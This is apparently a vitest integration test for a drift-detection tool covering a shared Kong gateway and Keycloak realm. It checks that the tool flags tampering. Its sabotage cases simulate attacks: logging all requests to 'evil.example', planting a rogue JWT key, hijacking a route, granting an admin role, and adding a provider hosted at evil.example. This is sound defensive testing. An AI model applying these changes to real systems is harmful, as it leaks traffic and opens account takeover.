import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ownStack } from './own.ts';

/** A stack that others work on, too: 200 routes, 30 plugins and 20 consumers on the gateway, 60 clients, 300 people and 3 providers in the realm. */
const shop = 'blueprints/sso.yaml';
const stack = ownStack(shop);
let directory = '';
let blueprint = '';
let token = '';
let until = 0;
let own = { reads: 0 };

const send = async (url: string, method: string, body?: unknown, headers: Record<string, string> = {}): Promise<string> => {
  const answer = await fetch(url, { method, headers: { 'content-type': 'application/json', ...headers }, ...(body !== undefined && { body: JSON.stringify(body) }) });
  const text = await answer.text();
  if (!answer.ok && !(method === 'DELETE' && answer.status === 404)) throw new Error(`${method} ${url}: ${answer.status} ${text}`);
  return text;
};
const kong = (method: string, path: string, body?: unknown): Promise<string> => send(`${stack.env().KONG_ADMIN_URL ?? ''}${path}`, method, body);
const keycloak = async (method: string, path: string, body?: unknown): Promise<string> => {
  // A token of this login is good for a minute, and what is done here takes longer on a busy machine.
  if (performance.now() > until) await login();
  return send(`${stack.env().KEYCLOAK_URL ?? ''}/admin/realms/shop${path}`, method, body, { authorization: `Bearer ${token}` });
};
const login = async (): Promise<void> => {
  const form = new URLSearchParams({ grant_type: 'client_credentials', client_id: 'authctl', client_secret: stack.env().KEYCLOAK_CLIENT_SECRET ?? '' });
  const answer = await fetch(`${stack.env().KEYCLOAK_URL ?? ''}/realms/master/protocol/openid-connect/token`, { method: 'POST', body: form });
  ({ access_token: token } = (await answer.json()) as { access_token: string });
  until = performance.now() + 30_000;
};
const each = (count: number, make: (at: number) => Promise<unknown>): Promise<unknown> =>
  Array.from({ length: count }, (_, at) => at).reduce<Promise<unknown>>((before, at) => before.then(() => make(at)), Promise.resolve());

interface Drift {
  readonly exitCode: number;
  readonly told: readonly { readonly action: string; readonly address: string; readonly severity: string; readonly what?: string }[];
  readonly accepted: number;
  readonly reads: Readonly<Record<string, number>>;
}
const drift = async (): Promise<Drift> => {
  const { exitCode, stdout, stderr } = await stack.authctl('drift', blueprint, '--json');
  const { changes = [], accepted = [], requests = {}, problems } = JSON.parse(stdout) as {
    changes?: Drift['told'];
    accepted?: readonly unknown[];
    requests?: Record<string, { reads: number }>;
    problems: readonly unknown[];
  };
  if (problems.length > 0) throw new Error(`drift: ${JSON.stringify(problems)} ${stderr}`);
  return {
    exitCode,
    told: changes.filter(({ action }) => action !== 'keep'),
    accepted: accepted.length,
    reads: Object.fromEntries(Object.entries(requests).map(([name, { reads }]) => [name, reads])),
  };
};

beforeAll(async () => {
  await stack.succeed('stack', 'up', shop);
  directory = mkdtempSync(join(tmpdir(), 'authctl-shared-'));
  for (const folder of ['blueprints', 'policies']) cpSync(folder, join(directory, folder), { recursive: true });
  blueprint = join(directory, shop);
  await stack.succeed('apply', blueprint, '--yes');
  const before = await drift();
  expect(before).toMatchObject({ exitCode: 0, told: [] });
  own = { reads: Object.values(before.reads).reduce((sum, reads) => sum + reads, 0) };

  await each(20, (at) => kong('PUT', `/services/their-${at}`, { host: `their-${at}.invalid`, port: 80, protocol: 'http' }));
  await each(200, (at) => kong('PUT', `/services/their-${at % 20}/routes/their-${at}`, { paths: [`/their/${at}`], tags: ['team-b'] }));
  await each(20, (at) => kong('PUT', `/consumers/their-${at}`, {}));
  await each(20, (at) => kong('POST', `/services/their-${at}/plugins`, { name: 'rate-limiting', config: { minute: 100, policy: 'local' } }));
  await each(6, (at) => kong('POST', `/consumers/their-${at}/plugins`, { name: 'rate-limiting', config: { minute: 50, policy: 'local' } }));
  await each(2, (at) => kong('POST', `/routes/their-${at}/plugins`, { name: 'key-auth', config: {} }));
  await kong('POST', '/plugins', { name: 'correlation-id', config: { header_name: 'x-request-id' }, tags: ['platform'] });
  await kong('POST', '/plugins', { name: 'prometheus', config: {}, tags: ['platform'] });

  await each(60, (at) => keycloak('POST', '/clients', { clientId: `their-${at}`, publicClient: at % 2 === 0, redirectUris: [`https://their-${at}.example/callback`], fullScopeAllowed: false }));
  await each(300, (at) => keycloak('POST', '/users', { username: `their-${at}`, email: `their-${at}@team-b.example`, enabled: true }));
  await each(3, (at) => keycloak('POST', '/identity-provider/instances', {
      alias: `their-${at}`,
      providerId: 'oidc',
      enabled: true,
      config: { clientId: 'x', clientSecret: 'y', authorizationUrl: `https://idp-${at}.example/auth`, tokenUrl: `https://idp-${at}.example/token`, useJwksUrl: 'true', jwksUrl: `https://idp-${at}.example/keys`, clientAuthMethod: 'client_secret_post' },
    }));
});
afterAll(async () => {
  await stack.down();
  rmSync(directory, { recursive: true, force: true });
});

describe('a system that others share', () => {
  it('is quiet after it was looked at once and accepted, for at most twice the requests', async () => {
    const first = await drift();
    // What cannot touch what is protected is told by nobody: no route, consumer or person of others.
    expect(first.told.filter(({ address }) => /^kong\.(route|service|consumer)\/|^keycloak\.user\//.test(address))).toEqual([]);
    await stack.succeed('accept', blueprint, '--reason', 'the other teams, as reviewed');
    const second = await drift();
    expect(second).toMatchObject({ exitCode: 0, told: [], accepted: first.told.length });
    const reads = Object.values(second.reads).reduce((sum, one) => sum + one, 0);
    expect(reads).toBeLessThanOrEqual(2 * own.reads);
    process.stdout.write(`reads of drift: ${own.reads} alone, ${reads} shared ${JSON.stringify(second.reads)}; ${second.accepted} accepted\n`);
    // The blueprint is as it was, with entries below it.
    expect(readFileSync(blueprint, 'utf8').startsWith(readFileSync(shop, 'utf8').slice(0, 400))).toBe(true);
  });

  const upstream = (): { host: string; port: number; protocol: string } => {
    const url = new URL(stack.env().ORDERS_URL ?? '');
    return { host: url.hostname, port: Number(url.port), protocol: 'http' };
  };
  const idOf = async (path: string): Promise<string> => ((JSON.parse(await keycloak('GET', path)) as { id: string }[])[0]?.id ?? '');

  it.each<[what: string, sabotage: () => Promise<unknown>, undo: () => Promise<unknown>, address: RegExp, severity: RegExp]>([
    [
      'one of their services is led to ours',
      () => kong('PATCH', '/services/their-3', upstream()),
      () => kong('PATCH', '/services/their-3', { host: 'their-3.invalid', port: 80 }),
      /^kong\.(route\/their-|service\/their-3)/,
      /opens/,
    ],
    ['one of their routes takes ours over', () => kong('PATCH', '/routes/their-7', { paths: ['~/orders$'], methods: ['GET'], regex_priority: 1000 }), () => kong('PATCH', '/routes/their-7', { paths: ['/their/7'], methods: null, regex_priority: 0 }), /^kong\.route\/their-7/, /opens|exposes|breaks/],
    ['a log of every request goes elsewhere', () => kong('POST', '/plugins', { name: 'http-log', instance_name: 'log', config: { http_endpoint: 'http://evil.example/' } }), () => kong('DELETE', '/plugins/log'), /^kong\.plugin\/log/, /exposes/],
    ['our consumer gets another key', () => kong('POST', '/consumers/shop.issuer/jwt', { key: 'evil', algorithm: 'HS256', secret: 'x'.repeat(32) }), async () => kong('DELETE', `/consumers/shop.issuer/jwt/${(JSON.parse(await kong('GET', '/consumers/shop.issuer/jwt')) as { data: { id: string; key: string }[] }).data.find(({ key }) => key === 'evil')?.id ?? ''}`), /^kong\.jwt_secret\//, /opens|weakens|differs/],
    ['the accepted plugin changes', async () => kong('PATCH', `/plugins/${await correlation()}`, { config: { header_name: 'authorization' } }), async () => kong('PATCH', `/plugins/${await correlation()}`, { config: { header_name: 'x-request-id' } }), /^kong\.plugin\//, /./],
    ['one of their clients gets our scope', async () => keycloak('PUT', `/clients/${await idOf('/clients?clientId=their-4')}/optional-client-scopes/${await scope()}`), async () => keycloak('DELETE', `/clients/${await idOf('/clients?clientId=their-4')}/optional-client-scopes/${await scope()}`), /^keycloak\.client\/shop\/their-4/, /opens/],
    ['one of their clients gives our scope with every token', async () => keycloak('PUT', `/clients/${await idOf('/clients?clientId=their-6')}/default-client-scopes/${await scope()}`), async () => keycloak('DELETE', `/clients/${await idOf('/clients?clientId=their-6')}/default-client-scopes/${await scope()}`), /^keycloak\.client\/shop\/their-6/, /opens|weakens/],
    ['one of their people gets our role', async () => keycloak('POST', `/users/${await idOf('/users?username=their-9&exact=true')}/role-mappings/realm`, [await role()]), async () => keycloak('DELETE', `/users/${await idOf('/users?username=their-9&exact=true')}/role-mappings/realm`, [await role()]), /^keycloak\./, /opens/],
    ['one of their providers vouches for addresses', async () => keycloak('PUT', '/identity-provider/instances/their-1', { ...(JSON.parse(await keycloak('GET', '/identity-provider/instances/their-1')) as object), trustEmail: true }), async () => keycloak('PUT', '/identity-provider/instances/their-1', { ...(JSON.parse(await keycloak('GET', '/identity-provider/instances/their-1')) as object), trustEmail: false }), /^keycloak\..*their-1/, /opens|weakens/],
    ['a fourth provider comes', () => keycloak('POST', '/identity-provider/instances', { alias: 'fourth', providerId: 'oidc', enabled: true, config: { clientId: 'x', clientSecret: 'y', authorizationUrl: 'https://evil.example/a', tokenUrl: 'https://evil.example/t', useJwksUrl: 'true', jwksUrl: 'https://evil.example/k', clientAuthMethod: 'client_secret_post' } }), () => keycloak('DELETE', '/identity-provider/instances/fourth'), /^keycloak\..*fourth/, /opens|weakens/],
  ])('tells when %s', async (_what, sabotage, undo, address, severity) => {
    await sabotage();
    try {
      const { exitCode, told } = await drift();
      expect(exitCode).toBe(2);
      expect(told.map((one) => one.address)).toEqual(expect.arrayContaining([expect.stringMatching(address)]));
      expect(told.filter((one) => address.test(one.address)).every((one) => severity.test(one.severity))).toBe(true);
    } finally {
      await undo();
    }
    expect(await drift()).toMatchObject({ exitCode: 0, told: [] });
  });

  const correlation = async (): Promise<string> => (JSON.parse(await kong('GET', '/plugins?tags=platform')) as { data: { id: string; name: string }[] }).data.find(({ name }) => name === 'correlation-id')?.id ?? '';
  const scope = async (): Promise<string> => (JSON.parse(await keycloak('GET', '/client-scopes')) as { id: string; name: string }[]).find(({ name }) => name === 'orders:write')?.id ?? '';
  const role = async (): Promise<unknown> => JSON.parse(await keycloak('GET', '/roles/admin'));
});
